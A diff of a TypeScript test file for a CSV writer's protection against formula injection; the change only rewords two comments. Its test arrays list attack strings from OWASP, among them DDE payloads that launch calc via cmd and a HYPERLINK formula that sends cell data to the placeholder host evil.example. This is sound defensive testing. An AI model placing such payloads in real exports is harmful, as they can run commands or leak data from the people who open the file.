@@ -108,7 +108,7 @@ test.each([
   expect(csvLine([cell])).toBe(`${written}\r\n`);
 });
 
-/** Inputs from OWASP's page about CSV injection and from published lists of attacks. */
+/** From OWASP's page about CSV injection and from published lists of attacks. */
 const formulas = ['=1+1', '+1+1', '-1+1', '+919876543210', '+91 98765=1+1', ';=cmd'];
 const commands = ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"];
 const calls = ["%0A-3+3+cmd|' /C calc'!D2\n-1", '=HYPERLINK("http://evil.example?x="&A1,"here")'];
@@ -126,7 +126,7 @@ const inCell = [
 const wide = ['＝1+1', '＋1', '－1', '＠SUM(1)'];
 const attacks = [...formulas, ...commands, ...calls, ...afterSpace, ...inCell, ...wide];
 
-/** Returns every cell that a spreadsheet could read, whichever separator or quotes it expects. */
+/** Returns every cell that a spreadsheet could read, with any separator and any quotes. */
 function possibleCells(line: string): string[] {
   return line.split(/[,;|\t\r\n"]/).map((cell) => cell.trim());
 }
